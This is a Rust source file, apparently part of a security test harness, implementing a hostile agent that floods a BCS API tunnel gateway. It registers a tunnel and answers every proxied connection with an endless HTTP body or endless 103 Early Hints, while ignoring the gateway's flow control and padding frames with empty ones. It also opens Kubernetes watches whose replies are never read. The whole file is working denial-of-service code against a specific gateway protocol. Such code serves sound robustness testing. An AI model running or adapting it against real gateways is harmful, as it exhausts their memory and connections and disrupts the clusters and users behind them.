//! An agent that attacks its gateway: it sends endless replies, and ignores the requests of the gateway to pause.

use std::{
    collections::HashMap,
    io,
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    thread::yield_now,
};

use base64::{Engine as _, prelude::BASE64_STANDARD};
use bytes::{Buf as _, Bytes};
use futures_util::{SinkExt as _, StreamExt as _};
use rustls_pki_types::PrivateKeyDer;
use serde_json::json;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _, DuplexStream, WriteHalf},
    net::{TcpSocket, TcpStream},
    sync::mpsc,
};
use tokio_rustls::TlsAcceptor;
use tokio_tungstenite::{
    client_async,
    tungstenite::{Message, client::IntoClientRequest as _},
};

use crate::{ATTACKING_SEND_BUFFER, Error};

/// An agent that floods its gateway through the tunnel of its cluster.
#[derive(Clone, Debug)]
pub struct TunnelFlood {
    pub gateway: String,
    pub cluster: String,
    pub register_token: String,
    /// The number of empty data frames that the agent sends after each frame with data.
    pub empty_frames: usize,
    pub reply: EndlessReply,
    /// The number of bytes of data that the agent has sent.
    pub sent_byte_count: Arc<AtomicU64>,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum EndlessReply {
    Body,
    /// The reply consists of informational responses, without a final response.
    Informational,
}

const DATA_FRAME: i64 = 1;
const CONNECT_FRAME: i64 = 2;
const ERROR_FRAME: i64 = 3;

impl TunnelFlood {
    /// Opens a tunnel and sends an endless reply on every connection in it, until the gateway closes the tunnel.
    pub async fn run(&self) -> Result<(), Error> {
        let (acceptor, ca) = tls_server()?;
        let params = json!({
            "address": "https://10.0.0.1:6443",
            "userToken": "token",
            "caCert": BASE64_STANDARD.encode(ca),
        });
        let invalid = |error: &dyn std::fmt::Display| Error::Invalid(format!("a tunnel: {error}"));
        let url = format!("ws://{}/bcsapi/v1/websocket/connect", self.gateway);
        let mut request = url.into_client_request().map_err(|error| invalid(&error))?;
        for (name, value) in [
            ("bcs-api-tunnel-module", "kubeagent"),
            ("bcs-api-tunnel-clusterid", &self.cluster),
            ("bcs-api-tunnel-token", &self.register_token),
            ("bcs-api-tunnel-params", &BASE64_STANDARD.encode(params.to_string())),
        ] {
            let value = value.parse().map_err(|error| invalid(&error))?;
            request.headers_mut().insert(name, value);
        }
        let connecting = async {
            let socket = TcpSocket::new_v4()?;
            socket.set_send_buffer_size(ATTACKING_SEND_BUFFER)?;
            let address = self.gateway.parse().map_err(io::Error::other)?;
            socket.connect(address).await
        };
        let stream = connecting.await.map_err(Error::io("connecting to the gateway"))?;
        let (socket, _) = client_async(request, stream).await.map_err(|error| invalid(&error))?;
        let (mut sink, mut stream) = socket.split();
        let (frames, mut queued) = mpsc::channel(16);
        let mut connections: HashMap<i64, WriteHalf<DuplexStream>> = HashMap::new();
        loop {
            let message = tokio::select! {
                Some(frame) = queued.recv() => match sink.send(Message::Binary(frame)).await {
                    Ok(()) => {
                        yield_now();
                        continue;
                    }
                    Err(_) => return Ok(()),
                },
                message = stream.next() => message,
            };
            let mut bytes = match message {
                Some(Ok(Message::Binary(bytes))) => bytes,
                Some(Ok(_)) => continue,
                Some(Err(_)) | None => return Ok(()),
            };
            let [_, connection, kind] = [(); 3].map(|()| take_varint(&mut bytes));
            match kind {
                CONNECT_FRAME => {
                    let writer = self.serve(connection, acceptor.clone(), frames.clone());
                    connections.insert(connection, writer);
                }
                DATA_FRAME => {
                    let _deadline = take_varint(&mut bytes);
                    if let Some(writer) = connections.get_mut(&connection) {
                        let _ = writer.write_all(&bytes).await;
                    }
                }
                ERROR_FRAME => drop(connections.remove(&connection)),
                _ => {}
            }
        }
    }

    /// Opens a watch at this path, from an address that no other client uses. Nothing of the reply is read.
    pub async fn watch(&self, path: &str, token: &str) -> Result<TcpStream, Error> {
        let head = format!("GET {path}?watch=1 HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {token}\r\n\r\n");
        let opening = async {
            let socket = TcpSocket::new_v4()?;
            socket.set_recv_buffer_size(4096)?;
            socket.bind(([127, 0, 0, 2], 0).into())?;
            let address = self.gateway.parse().map_err(io::Error::other)?;
            let mut stream = socket.connect(address).await?;
            stream.write_all(head.as_bytes()).await?;
            Ok(stream)
        };
        opening.await.map_err(Error::io("opening a watch"))
    }

    fn serve(&self, connection: i64, acceptor: TlsAcceptor, frames: mpsc::Sender<Bytes>) -> WriteHalf<DuplexStream> {
        let (near, far) = tokio::io::duplex(64 << 10);
        let (mut reader, writer) = tokio::io::split(near);
        tokio::spawn(self.reply.send(acceptor, far));
        let flood = self.clone();
        tokio::spawn(async move {
            let mut buffer = vec![0; 32 << 10];
            while let Ok(length @ 1..) = reader.read(&mut buffer).await {
                let data = buffer.get(..length).unwrap_or_default();
                let empty = std::iter::repeat_n(&[][..], flood.empty_frames);
                for data in std::iter::once(data).chain(empty) {
                    let mut frame: Vec<u8> = [1, connection, DATA_FRAME, 0].into_iter().flat_map(varint).collect();
                    frame.extend_from_slice(data);
                    if frames.send(frame.into()).await.is_err() {
                        return;
                    }
                }
                flood.sent_byte_count.fetch_add(length as u64, Ordering::Relaxed);
            }
        });
        writer
    }
}

impl EndlessReply {
    async fn send(self, acceptor: TlsAcceptor, stream: DuplexStream) -> io::Result<()> {
        let mut stream = acceptor.accept(stream).await?;
        let mut request = Vec::new();
        while !request.ends_with(b"\r\n\r\n") {
            if stream.read_buf(&mut request).await? == 0 {
                return Ok(());
            }
        }
        let (head, data) = match self {
            Self::Body => ("HTTP/1.1 200 OK\r\n\r\n", "x".repeat(16 << 10)),
            Self::Informational => ("", "HTTP/1.1 103 Early Hints\r\n\r\n".repeat(500)),
        };
        stream.write_all(head.as_bytes()).await?;
        loop {
            stream.write_all(data.as_bytes()).await?;
            yield_now();
        }
    }
}

fn tls_server() -> Result<(TlsAcceptor, String), Error> {
    let invalid = |error: &dyn std::fmt::Display| Error::Invalid(format!("a certificate: {error}"));
    let certified = rcgen::generate_simple_self_signed(["kubernetes".to_owned()]).map_err(|error| invalid(&error))?;
    let key = PrivateKeyDer::try_from(certified.signing_key.serialize_der()).map_err(|error| invalid(&error))?;
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let config = rustls::ServerConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .map_err(|error| invalid(&error))?
        .with_no_client_auth()
        .with_single_cert(vec![certified.cert.der().clone()], key)
        .map_err(|error| invalid(&error))?;
    Ok((TlsAcceptor::from(Arc::new(config)), certified.cert.pem()))
}

/// Encodes a number as a zigzag varint, like the numbers in frames of a tunnel. The number must not be negative.
fn varint(value: i64) -> Vec<u8> {
    let mut remaining_bits = value.cast_unsigned() << 1;
    let mut bytes = Vec::new();
    while remaining_bits >= 0x80 {
        bytes.push(remaining_bits.to_le_bytes()[0] | 0x80);
        remaining_bits >>= 7;
    }
    bytes.push(remaining_bits.to_le_bytes()[0]);
    bytes
}

fn take_varint(bytes: &mut Bytes) -> i64 {
    let mut value = 0_u64;
    for shift in (0..64).step_by(7) {
        if !bytes.has_remaining() {
            break;
        }
        let byte = bytes.get_u8();
        value |= u64::from(byte & 0x7f) << shift;
        if byte < 0x80 {
            break;
        }
    }
    (value >> 1).cast_signed()
}
